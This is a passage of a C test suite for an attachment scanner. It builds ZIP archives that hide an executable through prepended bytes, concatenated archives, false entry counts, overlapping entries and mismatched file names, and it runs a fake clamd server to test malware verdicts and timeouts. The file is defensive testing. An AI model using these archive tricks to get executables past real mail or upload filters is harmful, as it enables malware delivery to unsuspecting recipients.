 * the archive, whatever the first bytes are. One newline in front of a
 * ZIP holding invoice.exe made it clean. */
static void
test_zip_prefixed(void **state)
{
	const char *intro = "Please find the files attached.\r\n\r\n";
	const char *almost = "Hello,\nPK\x05\x06 is how an end record starts, "
			     "nothing more.\n";
	unsigned char *z, *p, *a;
	struct attach_result r;
	size_t n, pn, an;

	(void)state;
	for (int deflated = 0; deflated <= 1; deflated++) {
		z = zip1("invoice.exe", note_text, sizeof(note_text) - 1,
			 deflated, &n);
		p = with_prefix("\n", 1, z, n, &pn);
		r = run("invoice.zip", p, pn);
		assert_int_equal(r.verdict, ATTACH_DANGEROUS);
		assert_true(r.reasons & AR_ARCHIVE_DANGEROUS);
		assert_true(flagged(&r, "invoice.exe", AR_EXECUTABLE));
		free(p);
		/* A longer prefix, no extension to go by, a comment. */
		add_comment(&z, &n, "made by a tool, 2024");
		p = with_prefix(intro, strlen(intro), z, n, &pn);
		r = run("upload", p, pn);
		assert_int_equal(r.verdict, ATTACH_DANGEROUS);
		assert_true(flagged(&r, "invoice.exe", AR_EXECUTABLE));
		free(p);
		free(z);
	}
	/* Two archives one after the other: the first, which a tool reading
	 * from the start unpacks, is judged too. */
	z = zip1("invoice.exe", note_text, sizeof(note_text) - 1, 1, &n);
	a = zip1("readme.txt", note_text, sizeof(note_text) - 1, 1, &an);
	p = with_prefix(z, n, a, an, &pn);
	r = run("files.zip", p, pn);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_ARCHIVE_DANGEROUS);
	free(p);
	/* The same with the second archive's offsets moved to where it now
	 * lies (as `zip -A` does for a self-extractor): nothing needs
	 * correcting, and the bytes before its first entry are judged. */
	p = with_prefix(z, n, a, an, &pn);
	for (size_t cd = first_cd(p + n, an); cd + 46 < an;
	     cd = next_cd(p + n, cd))
		put32(p + n + cd + 42, (uint32_t)(n + (p[n + cd + 42] |
						       p[n + cd + 43] << 8)));
	put32(p + pn - 22 + 16, (uint32_t)(n + first_cd(p + n, an)));
	r = run("files.zip", p, pn);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_int_equal(r.reasons & AR_ZIP_INCONSISTENT, 0);
	free(p);
	free(a);
	free(z);
	/* A file that merely holds the end record's signature is no ZIP (no
	 * extension: libmagic calls these bytes octet-stream, not text). */
	r = run("notes", (const unsigned char *)almost, strlen(almost));
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	assert_int_equal(r.reasons, 0);
}

/* A ZIP whose records disagree is suspicious, never clean: the end
 * record's entry count against the directory, entries over the same
 * bytes, an entry running into the directory, a local name that is not
 * the directory's. */
static void
test_zip_inconsistent(void **state)
{
	const size_t tl = sizeof(note_text) - 1;
	const struct zipmini_entry two[] = {{"readme.txt", note_text, tl},
					    {"invoice.exe", note_text, tl}};
	const struct zipmini_entry same[] = {{"a.txt", note_text, tl},
					     {"a.txt", note_text, tl}};
	struct attach_result r;
	unsigned char *z;
	size_t n, cd;

	(void)state;
	/* The end record counts one entry; the directory holds two, and
	 * the hidden one is judged too. */
	z = zipmini_build(two, 2, &n);
	put16(z + n - 22 + 8, 1);
	put16(z + n - 22 + 10, 1);
	r = run("files.zip", z, n);
	assert_true(r.reasons & AR_ZIP_INCONSISTENT);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(flagged(&r, "invoice.exe", AR_EXECUTABLE));
	/* It counts three. */
	put16(z + n - 22 + 8, 3);
	put16(z + n - 22 + 10, 3);
	r = run("files.zip", z, n);
	assert_true(r.reasons & AR_ZIP_INCONSISTENT);
	assert_int_not_equal(r.verdict, ATTACH_CLEAN);
	free(z);
	/* Two entries over the same bytes (overlapping entries). */
	z = zipmini_build(same, 2, &n);
	cd = next_cd(z, first_cd(z, n));
	put32(z + cd + 42, 0);
	r = run("files.zip", z, n);
	assert_true(r.reasons & AR_ZIP_INCONSISTENT);
	assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
	free(z);
	/* An entry whose data runs into the central directory. */
	z = zip1("a.txt", note_text, tl, 0, &n);
	cd = first_cd(z, n);
	put32(z + cd + 20, (uint32_t)tl + 20);
	put32(z + cd + 24, (uint32_t)tl + 20);
	r = run("files.zip", z, n);
	assert_true(r.reasons & AR_ZIP_INCONSISTENT);
	assert_int_not_equal(r.verdict, ATTACH_CLEAN);
	free(z);
	/* The directory says invoice.txt, the local header invoice.exe
	 * (what a tool reading local headers unpacks). */
	z = zip1("invoice.exe", note_text, tl, 0, &n);
	cd = first_cd(z, n);
	memcpy(z + cd + 46, "invoice.txt", 11);
	r = run("files.zip", z, n);
	assert_true(r.reasons & AR_ZIP_INCONSISTENT);
	assert_int_not_equal(r.verdict, ATTACH_CLEAN);
	free(z);
	assert_string_equal(attach_reason_name(AR_ZIP_INCONSISTENT),
			    "inconsistent_archive");
	/* A sound archive has no such reason. */
	z = zipmini_build(same, 1, &n);
	r = run("files.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	assert_int_equal(r.reasons, 0);
	free(z);
}

/* --- a fake clamd -------------------------------------------------------- */

enum fake_mode { FAKE_FOUND, FAKE_OK, FAKE_HANG, FAKE_STALL, FAKE_CLOSE };

struct fake {
	char dir[64];
	char path[96];
	int lfd;
	enum fake_mode mode;
	pthread_t th;
	size_t got;		/* payload bytes read */
	int proto_ok;		/* command and end chunk seen */
	volatile int stop;
};

static int
read_full(int fd, void *p, size_t n)
{
	unsigned char *b = p;

	while (n > 0) {
		ssize_t k = recv(fd, b, n, 0);

		if (k < 0 && errno == EINTR)
			continue;
		if (k <= 0)
			return -1;
		b += k;
		n -= (size_t)k;
	}
	return 0;
}

static void *
fake_run(void *arg)
{
	struct fake *f = arg;
	unsigned char *buf = malloc(65536);
	char cmd[10];
	int c = accept(f->lfd, NULL, NULL);

	if (c < 0 || buf == NULL)
		goto out;
	if (f->mode == FAKE_CLOSE) {
		(void)read_full(c, cmd, 4);
		goto out;
	}
	if (f->mode == FAKE_STALL) {
		/* Reads nothing: the client's sends fill the socket. */
		while (!f->stop)
			usleep(20000);
		goto out;
	}
	if (read_full(c, cmd, 10) == 0 && memcmp(cmd, "zINSTREAM", 10) == 0) {
		for (;;) {
			unsigned char h[4];
			uint32_t len;

			if (read_full(c, h, 4) < 0)
				break;
			len = (uint32_t)h[0] << 24 | (uint32_t)h[1] << 16 |
			      (uint32_t)h[2] << 8 | h[3];
			if (len == 0) {
				f->proto_ok = 1;
				break;
			}
			if (len > 65536 || read_full(c, buf, len) < 0)
				break;
			f->got += len;
		}
	}
	if (f->mode == FAKE_FOUND && f->proto_ok) {
		static const char rep[] = "stream: Eicar-Test-Signature FOUND";

		(void)!send(c, rep, sizeof(rep), MSG_NOSIGNAL);
	} else if (f->mode == FAKE_OK && f->proto_ok) {
		(void)!send(c, "stream: OK", 11, MSG_NOSIGNAL);
	} else {
		/* Hangs: never answers, until the client gives up. */
		while (recv(c, buf, 1, 0) > 0)
			;
	}
out:
	if (c >= 0)
		close(c);
	free(buf);
	return NULL;
}

static void
fake_start(struct fake *f, enum fake_mode mode)
{
	struct sockaddr_un sa;

	memset(f, 0, sizeof(*f));
	f->mode = mode;
	snprintf(f->dir, sizeof(f->dir), "/tmp/gh-clamd-XXXXXX");
	assert_non_null(mkdtemp(f->dir));
	snprintf(f->path, sizeof(f->path), "%s/clamd.sock", f->dir);
	f->lfd = socket(AF_UNIX, SOCK_STREAM, 0);
	assert_true(f->lfd >= 0);
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", f->path);
	assert_int_equal(bind(f->lfd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	assert_int_equal(listen(f->lfd, 4), 0);
	assert_int_equal(pthread_create(&f->th, NULL, fake_run, f), 0);
}

/* The same fake clamd on TCP (127.0.0.1, a free port): path becomes
 * "tcp:127.0.0.1:PORT", as the config names a clamd TCPSocket. */
static void
fake_start_tcp(struct fake *f, enum fake_mode mode)
{
	struct sockaddr_in sa;
	socklen_t sl = sizeof(sa);

	memset(f, 0, sizeof(*f));
	f->mode = mode;
	f->lfd = socket(AF_INET, SOCK_STREAM, 0);
	assert_true(f->lfd >= 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	assert_int_equal(bind(f->lfd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	assert_int_equal(listen(f->lfd, 4), 0);
	assert_int_equal(getsockname(f->lfd, (struct sockaddr *)&sa, &sl), 0);
	snprintf(f->path, sizeof(f->path), "tcp:127.0.0.1:%u",
		 (unsigned)ntohs(sa.sin_port));
	assert_int_equal(pthread_create(&f->th, NULL, fake_run, f), 0);
}

static void
fake_stop(struct fake *f)
{
	f->stop = 1;
	pthread_join(f->th, NULL);
	close(f->lfd);
	if (f->dir[0] != '\0') {
		unlink(f->path);
		rmdir(f->dir);
	}
}

static long
ms_since(const struct timespec *t0)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (long)(t.tv_sec - t0->tv_sec) * 1000 +
	       (t.tv_nsec - t0->tv_nsec) / 1000000;
}

static void
test_clamd(void **state)
{
	size_t n = 200000, big = (size_t)8 << 20;
	unsigned char *d = malloc(big);
	struct attach_options o = {0};
	struct attach_result r;
	struct timespec t0;
	struct fake f;

	(void)state;
	assert_non_null(d);
	memset(d, 'a', big);
	o.clamd_timeout_ms = 300;
	fake_start(&f, FAKE_FOUND);
	o.clamd_socket = f.path;
	r = run_o("notes.txt", d, n, &o);
	fake_stop(&f);
	assert_true(f.proto_ok);
	assert_int_equal(f.got, n);	/* every byte, in 64 KiB chunks */
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_MALWARE);
	assert_string_equal(r.malware, "Eicar-Test-Signature");

	fake_start(&f, FAKE_OK);
	o.clamd_socket = f.path;
	r = run_o("notes.txt", d, n, &o);
	fake_stop(&f);
	assert_true(f.proto_ok);
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	assert_false(r.reasons & AR_MALWARE);
	assert_string_equal(r.malware, "");

	/* clamd's TCPSocket. */
	fake_start_tcp(&f, FAKE_FOUND);
	o.clamd_socket = f.path;
	r = run_o("notes.txt", d, n, &o);
	fake_stop(&f);
	assert_true(f.proto_ok);
	assert_true(r.reasons & AR_MALWARE);
	fake_start_tcp(&f, FAKE_OK);
	o.clamd_socket = f.path;
	r = run_o("notes.txt", d, n, &o);
	fake_stop(&f);
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	o.clamd_socket = "tcp:no-port";
	r = run_o("notes.txt", d, n, &o);
	assert_true(r.reasons & AR_AV_UNAVAILABLE);

	/* A clamd that reads everything and never answers, one that reads
	 * nothing (the sends block), one that closes at once: each costs at
	 * most the timeout, none is an error, and each leaves the file
	 * marked as not scanned. */
	for (int m = FAKE_HANG; m <= FAKE_CLOSE; m++) {
		size_t len = m == FAKE_STALL ? big : n;

		fake_start(&f, (enum fake_mode)m);
		o.clamd_socket = f.path;
		clock_gettime(CLOCK_MONOTONIC, &t0);
		r = run_o("notes.txt", d, len, &o);
		assert_true(ms_since(&t0) < 3000);
		fake_stop(&f);
		assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
		assert_int_equal(r.reasons, AR_AV_UNAVAILABLE);
	}
	free(d);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_files),
		cmocka_unit_test(test_active_html),
		cmocka_unit_test(test_executables),
		cmocka_unit_test(test_ole_macros),
		cmocka_unit_test(test_zip),
		cmocka_unit_test(test_har_and_limits),
		cmocka_unit_test(test_zip_content),
		cmocka_unit_test(test_nested_and_tar),
		cmocka_unit_test(test_har_archived),
		cmocka_unit_test(test_archives_clean),
		cmocka_unit_test(test_bombs_and_limits),
		cmocka_unit_test(test_depth),
		cmocka_unit_test(test_not_inspected),
		cmocka_unit_test(test_zip_prefixed),
		cmocka_unit_test(test_zip_inconsistent),
		cmocka_unit_test(test_clamd),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
